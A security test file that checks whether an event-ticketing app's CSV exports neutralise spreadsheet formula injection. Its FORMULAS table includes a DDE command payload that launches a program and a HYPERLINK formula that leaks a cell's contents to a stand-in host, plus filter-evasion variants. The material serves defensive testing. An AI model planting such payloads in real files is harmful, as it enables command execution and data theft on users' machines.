"""Formulas in exports: whatever separator a spreadsheet splits the file at, no cell begins like a formula."""

import csv
import io

import httpx2
import pytest

from tests.attacks.target import Target

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
DROPPED = ' \t\r\n\v\f\xa0\u3000\ufeff\u200b\u200e\u2060"'
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(1)",
    "DDE": "=cmd|'/C calc'!A0",
    "DDE behind a semicolon": "x;=cmd|'/C calc'!A0",
    "behind a comma": "x,=1",
    "behind a tab": "x\t=1",
    "behind a line feed": "x\n=1",
    "behind a carriage return": "x\r=1",
    "behind a line end": "x\r\n+1",
    "behind a pipe": "x|=1",
    "full-width equals": "\uff1d1",
    "full-width plus": "\uff0b1",
    "full-width minus": "\uff0d1",
    "full-width at": "\uff20A1",
    "full-width behind a semicolon": "x;\uff1d1",
    "blanks": "   =1",
    "a blank that does not break": "\xa0=1",
    "an ideographic blank": "\u3000=1",
    "a leading tab": "\t=1",
    "byte order mark": "\ufeff=1",
    "zero width": "\u200b=1",
    "a mark of direction": "\u200e=1",
    "zero width behind a semicolon": "x;\u2060\u200b=1",
    "a quote": '"=1',
    "a quote behind a semicolon": 'x;"=1',
    "quotes behind a semicolon": 'x;"""=1',
    "many": "=1;=2\t=3\n=4",
    "a hyperlink": '=HYPERLINK("https://example.org/?"&A1)',
}
# A name or a reason with these is not taken. Any cell of a file that is imported may have them.
REFUSED = {
    "behind a tab", "behind a line feed", "behind a carriage return", "behind a line end", "many",
    "byte order mark", "zero width", "zero width behind a semicolon",
}  # fmt: skip


def assert_harmless(file: str) -> None:
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(file, newline=""), delimiter=separator):
            for cell in row:
                assert not cell.lstrip(DROPPED).startswith(tuple(SIGNS)), (separator, cell)


async def downloaded(owner: httpx2.AsyncClient, path: str) -> str:
    answer = await owner.get(path)
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    return answer.content.decode("utf-8-sig")


def file_of(*rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


@pytest.mark.finding(8)
@pytest.mark.parametrize("name", FORMULAS)
async def test_rows_that_were_not_imported(target: Target, name: str) -> None:
    """They are downloaded as they came, corrected and imported again: so they must also come back as they were."""
    # The heading has one cell less, which is what is wrong with the row.
    first = [FORMULAS[name].replace("\r\n", "\n").replace("\r", "\n")] * 2
    async with target.studio() as owner:
        files = [file_of(["name", "note"], [*first, "x"])]
        for _ in range(2):
            answer = await target.upload(owner, files[-1])
            assert answer.status_code == 303, answer.text[:2000]
            file = await downloaded(owner, f"{answer.headers['location']}/faulty")
            assert_harmless(file)
            header, row = csv.reader(io.StringIO(file, newline=""))
            files.append(file_of(header[:2], [*row[:2], "x"]))
    assert files[1] == files[2]


@pytest.mark.finding(8)
@pytest.mark.parametrize("name", FORMULAS)
async def test_names_of_holders(target: Target, name: str) -> None:
    event_id = target.tenant.event_id
    async with target.studio() as owner:
        ticket = {"name": FORMULAS[name], "category": str(target.tenant.category_id)}
        answer = await owner.post(target.event_page("/tickets/new", event_id), data=ticket)
        assert answer.status_code == (422 if name in REFUSED else 303), answer.text[:2000]
        assert_harmless(await downloaded(owner, target.event_page("/tickets/export", event_id)))


@pytest.mark.finding(8)
@pytest.mark.parametrize("name", FORMULAS)
async def test_reasons_in_the_audit_log(target: Target, name: str) -> None:
    card = await target.tenant.card()
    async with target.studio() as owner:
        answer = await owner.post(target.page(f"cards/{card.id}/suspend"), data={"reason": FORMULAS[name]})
        assert answer.status_code == (422 if name in REFUSED else 303), answer.text[:2000]
        file = await downloaded(owner, target.page(f"audit/export.csv?subject_id={card.id}"))
    assert ("suspend" in file) is (name not in REFUSED)
    assert_harmless(file)
